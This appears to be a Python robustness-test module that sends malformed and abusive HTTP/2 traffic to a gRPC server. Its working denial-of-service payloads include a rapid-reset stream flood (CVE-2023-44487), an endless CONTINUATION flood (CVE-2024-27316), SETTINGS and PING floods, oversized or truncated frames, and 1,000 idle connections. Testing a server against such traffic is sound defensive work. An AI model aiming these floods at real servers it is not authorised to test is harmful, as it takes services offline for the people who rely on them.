"""Attacks below gRPC: bytes that are no HTTP/2, frames that are and should not be, connections that say nothing."""

from __future__ import annotations

import asyncio
import random
import struct
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from tests.hostile.attacks import Attack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_HEADERS = 4


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """An HTTP/2 frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def headers(*pairs: tuple[bytes, bytes]) -> bytes:
    """A header block of literals without indexing (RFC 7541, section 6.2.2), names and values under 127 bytes."""
    return b"".join(b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value for name, value in pairs)


REQUEST = headers(
    (b":method", b"POST"),
    (b":scheme", b"http"),
    (b":path", b"/trunkline.v1.Trunk/Session"),
    (b":authority", b"trunk"),
    (b"te", b"trailers"),
    (b"content-type", b"application/grpc"),
)


def _noise(draw: random.Random) -> bytes:
    return draw.randbytes(draw.choice((1, 100, 20_000)))


def _preface_and_noise(draw: random.Random) -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0, b"") + draw.randbytes(draw.choice((9, 500, 20_000)))


def _settings(draw: random.Random) -> bytes:
    return PREFACE + b"".join(
        frame(SETTINGS, 0, 0, struct.pack(">HI", draw.randrange(1, 7), draw.randrange(1 << 32))) for _ in range(2000)
    )


def _pings(draw: random.Random) -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0, b"") + frame(PING, 0, 0, draw.randbytes(8)) * 5000


def _huge_frame(draw: random.Random) -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0, b"") + b"\xff\xff\xff" + bytes((DATA, 0)) + b"\0\0\0\1" + _noise(draw)


def _continuations(draw: random.Random) -> bytes:
    """Headers without an end (CVE-2024-27316 and its like)."""
    start = PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, 0, 1, REQUEST)
    return start + frame(CONTINUATION, 0, 1, headers((b"x-%d" % draw.randrange(9), b"y" * 100)) * 20) * 500


def _resets(draw: random.Random) -> bytes:
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    opened = (
        frame(HEADERS, END_HEADERS, number, REQUEST) + frame(RST_STREAM, 0, number, struct.pack(">I", 8))
        for number in range(1, 4001, 2)
    )
    return PREFACE + frame(SETTINGS, 0, 0, b"") + b"".join(opened)


def _half_messages(draw: random.Random) -> bytes:
    """A stream whose message announces 4 GiB and brings a few bytes."""
    message = b"\0\xff\xff\xff\xff" + draw.randbytes(50)
    return PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, END_HEADERS, 1, REQUEST) + frame(DATA, 0, 1, message)


def _text(draw: random.Random) -> bytes:
    return draw.choice(
        (b"GET / HTTP/1.1\r\nHost: trunk\r\n\r\n", b"\x16\x03\x01" + draw.randbytes(200), b"SSH-2.0-x\r\n")
    )


KINDS: tuple[Callable[[random.Random], bytes], ...] = (
    _noise,
    _preface_and_noise,
    _settings,
    _pings,
    _huge_frame,
    _continuations,
    _resets,
    _half_messages,
    _text,
)


async def garbage(attack: Attack) -> None:
    """What is no HTTP/2, or should not be, on a few connections at a time; each is left open for a while."""
    host, port = attack.target.address.rsplit(":", 1)

    async def throw(number: int) -> None:
        kind = attack.draw.choice(KINDS)
        reader, writer = await asyncio.open_connection(host, int(port))
        try:
            writer.write(kind(attack.draw))
            async with asyncio.timeout(2.0):
                await writer.drain()
                while await reader.read(1 << 16):
                    continue
            attack.outcomes.add(f"{kind.__name__.strip('_')}: closed")
        finally:
            writer.close()

    await _all(attack, throw, 16)


async def connections(attack: Attack) -> None:
    """1,000 connections that say nothing, or no more than the preface."""
    host, port = attack.target.address.rsplit(":", 1)

    async def wait(number: int) -> None:
        reader, writer = await asyncio.open_connection(host, int(port))
        try:
            if number % 2:
                writer.write(PREFACE + frame(SETTINGS, 0, 0, b""))
            async with asyncio.timeout(attack.left_s + 0.1):
                while await reader.read(1 << 16):
                    continue
            attack.outcomes.add("closed")
        finally:
            writer.close()

    await _all(attack, wait, attack.count(1000))


async def _all(attack: Attack, work: Callable[[int], Awaitable[None]], count: int) -> None:
    async def again(number: int) -> None:
        while attack.goes_on:
            with suppress(OSError, TimeoutError):
                await work(number)
                continue
            attack.outcomes.add("broken or left")

    tasks = [asyncio.ensure_future(again(number)) for number in range(count)]
    await asyncio.wait(tasks, timeout=attack.left_s + 1.0)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
